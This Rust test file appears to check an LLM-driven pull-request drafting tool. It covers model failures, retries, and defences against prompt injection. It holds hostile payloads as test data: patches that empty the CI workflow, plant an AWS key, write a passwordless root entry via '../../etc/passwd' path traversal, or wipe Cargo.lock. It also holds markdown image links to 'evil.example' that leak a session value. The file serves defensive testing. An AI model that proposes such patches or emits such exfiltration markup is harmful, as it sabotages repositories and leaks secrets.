//! Every way a draft stops short: each model failure mode, a patch that fails a check
//! (an injected instruction obeyed), and a vendor outage left for the next run.

use serde_json::json;
use triaged::store::DraftState;
use triaged_sandbox::llm::Scripted;

use super::*;
use crate::support::TestDb;

crate::trial!(multi_thread, each_model_failure_leaves_no_pull_request);
async fn each_model_failure_leaves_no_pull_request() {
    let db = TestDb::sqlite().await;
    let mut shop = Shop::open(&db.url).await;
    for (function, answer) in [
        ("total", Scripted::MalformedToolUse),
        ("subtotal", Scripted::Refusal),
        ("tax", Scripted::MaxTokens),
        (
            "discount",
            Scripted::Text("Here is my fix: just add `or []`.".into()),
        ),
    ] {
        shop.crash_in(function).await;
        shop.model_sandbox.script(answer.clone());
        let report = shop.draft().await;
        assert_eq!(report.rejected.len(), 1, "{answer:?}: {report:#?}");
        assert!(report.opened.is_empty());
        let fp = shop
            .world
            .fingerprint(&format!("in {function}"), now())
            .await;
        let draft = shop.world.store.draft(fp).await.unwrap().unwrap();
        assert_eq!(draft.state, DraftState::Rejected, "{answer:?}");
    }
    assert!(shop.github.pulls(REPO).is_empty() && shop.our_branches().is_empty());
    let runs = shop
        .world
        .store
        .agent_runs_since(now() - chrono::Duration::days(1))
        .await
        .unwrap();
    assert_eq!(runs.len(), 4, "every call is recorded");
    let outcomes: Vec<&str> = runs.iter().map(|r| r.outcome.as_str()).collect();
    assert!(
        outcomes.contains(&"refused") && outcomes.contains(&"max_tokens"),
        "{outcomes:?}"
    );
    assert!(
        outcomes.iter().any(|o| o.starts_with("error:")),
        "{outcomes:?}"
    );
    db.cleanup().await;
}

crate::trial!(multi_thread, an_overloaded_model_is_tried_again_next_run);
async fn an_overloaded_model_is_tried_again_next_run() {
    let db = TestDb::sqlite().await;
    let mut shop = Shop::open(&db.url).await;
    shop.crash_in("total").await;
    for _ in 0..MODEL_ATTEMPTS {
        shop.model_sandbox.script(Scripted::Overloaded);
    }
    let first = shop.draft().await;
    assert_eq!(first.retry.len(), 1, "{first:#?}");
    assert!(first.rejected.is_empty() && first.opened.is_empty());
    assert_eq!(shop.model_sandbox.pending(), 0, "every try was used");
    let fp = shop.world.fingerprint("TypeError", now()).await;
    assert_eq!(
        shop.world.store.draft(fp).await.unwrap().unwrap().state,
        DraftState::Pending
    );
    let runs = shop
        .world
        .store
        .agent_runs_since(now() - chrono::Duration::days(1))
        .await
        .unwrap();
    assert!(
        runs[0].outcome.starts_with("error:"),
        "{:?}",
        runs[0].outcome
    );

    shop.model_sandbox.script(good_proposal());
    let second = shop.draft().await;
    assert_eq!(second.opened.len(), 1, "{second:#?}");
    assert_eq!(shop.github.pulls(REPO).len(), 1);
    db.cleanup().await;
}

crate::trial!(
    multi_thread,
    a_model_that_obeys_an_injected_instruction_gets_no_pull_request
);
async fn a_model_that_obeys_an_injected_instruction_gets_no_pull_request() {
    let db = TestDb::sqlite().await;
    let mut shop = Shop::open(&db.url).await;
    shop.crash_in("total").await;
    let obeying = [
        json!([{ "path": ".github/workflows/ci.yml", "new_contents": "on: push\njobs: {}\n" }]),
        json!([{ "path": "src/checkout/cart.py", "new_contents": format!("{FIXED}AWS_KEY = \"{}\"\n", PLANTED[0]) }]),
        json!([{ "path": "../../etc/passwd", "new_contents": "root::0:0::/:/bin/sh\n" }]),
        json!([{ "path": "Cargo.lock", "new_contents": "# gone\n" }]),
    ];
    for (i, files) in obeying.into_iter().enumerate() {
        let function = ["total", "subtotal", "tax", "discount"][i];
        if i > 0 {
            shop.crash_in(function).await;
        }
        shop.model_sandbox.script(proposal(files));
        let report = shop.draft().await;
        assert_eq!(report.rejected.len(), 1, "payload {i}: {report:#?}");
        assert!(
            report.rejected[0].contains("check"),
            "{:?}",
            report.rejected
        );
    }
    assert!(shop.github.pulls(REPO).is_empty() && shop.our_branches().is_empty());
    let sent = shop.everything_sent();
    for secret in PLANTED {
        assert!(!sent.contains(secret), "{secret} reached a vendor");
    }
    // The ticket gets the analysis and why there is no PR.
    let comments = ticket_comments(&shop);
    assert!(
        comments
            .iter()
            .any(|c| c.contains("opened no pull request")),
        "{comments:#?}"
    );
    assert!(comments.iter().all(|c| !c.contains(PLANTED[0])));
    db.cleanup().await;
}

crate::trial!(
    multi_thread,
    a_refused_proposal_s_analysis_reaches_the_ticket_as_inert_text
);
async fn a_refused_proposal_s_analysis_reaches_the_ticket_as_inert_text() {
    let db = TestDb::sqlite().await;
    let mut shop = Shop::open(&db.url).await;
    shop.crash_in("total").await;
    let exfiltrating = "![status](https://evil.example/pixel.png?q=session) see \
                        [the fix](https://evil.example/) <img src=https://evil.example/i>";
    let mut refused = proposal(json!([{ "path": PATH, "diff": diff() }]));
    if let Scripted::ToolUse { input, .. } = &mut refused {
        input["root_cause"] = json!(format!("The cart has no lines. {exfiltrating}"));
    }
    shop.model_sandbox.script(refused);
    let report = shop.draft().await;
    assert_eq!(report.rejected.len(), 1, "{report:#?}");
    assert!(shop.github.pulls(REPO).is_empty());
    let comments: Vec<String> = ticket_comments(&shop)
        .into_iter()
        .filter(|c| c.contains("opened no pull request"))
        .collect();
    assert_eq!(comments.len(), 1, "{comments:#?}");
    let comment = &comments[0];
    assert!(comment.contains("The cart has no lines."), "{comment}");
    // As markdown, nothing the model wrote is a link, an image or HTML: every `!`, `[`,
    // `]` and `<` of it is escaped, so each renders as itself.
    let analysis = &comment[comment.find("The cart has no lines.").unwrap()..];
    let mut previous = ' ';
    for c in analysis.chars() {
        if matches!(c, '!' | '[' | ']' | '<') {
            assert_eq!(previous, '\\', "unescaped {c:?} in {analysis}");
        }
        previous = c;
    }
    assert!(
        analysis.contains("\\!\\[status\\](https://evil.example"),
        "{analysis}"
    );
    db.cleanup().await;
}

/// Every comment on every ticket the Linear emulator holds.
fn ticket_comments(shop: &Shop) -> Vec<String> {
    shop.world
        .linear
        .issues()
        .into_iter()
        .flat_map(|i| i.comments)
        .collect()
}
